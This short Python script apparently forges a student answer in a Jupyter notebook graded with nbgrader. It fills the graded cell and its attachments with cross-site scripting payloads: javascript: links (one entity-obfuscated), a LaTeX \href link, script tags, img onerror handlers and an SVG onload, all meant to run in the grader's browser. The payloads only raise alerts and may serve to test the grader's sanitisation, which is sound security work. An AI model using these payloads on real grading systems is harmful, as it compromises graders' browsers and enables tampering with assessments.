"""Answer in writing with links, formulas and pictures that run in the browser of the person who grades."""


def forge(notebook):
    answer = next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "question_pull")
    answer["source"] = ("[my proof](javascript:alert('EFFECT')) [again](java&#115;cript:alert('EFFECT'))\n\n"
                        "&#36;&#92;href{javascript:alert('EFFECT')}{x}&#36; ![p](attachment:p.png) ![gone](attachment:gone.png)\n\n"
                        "<script>alert('EFFECT')</script><img src=x onerror=\"alert('EFFECT')\">")
    answer["attachments"] = {"p.png": {"image/png": "AAAA\" onerror=\"alert('EFFECT')", "image/svg+xml": "<svg onload=alert(1)>"}}
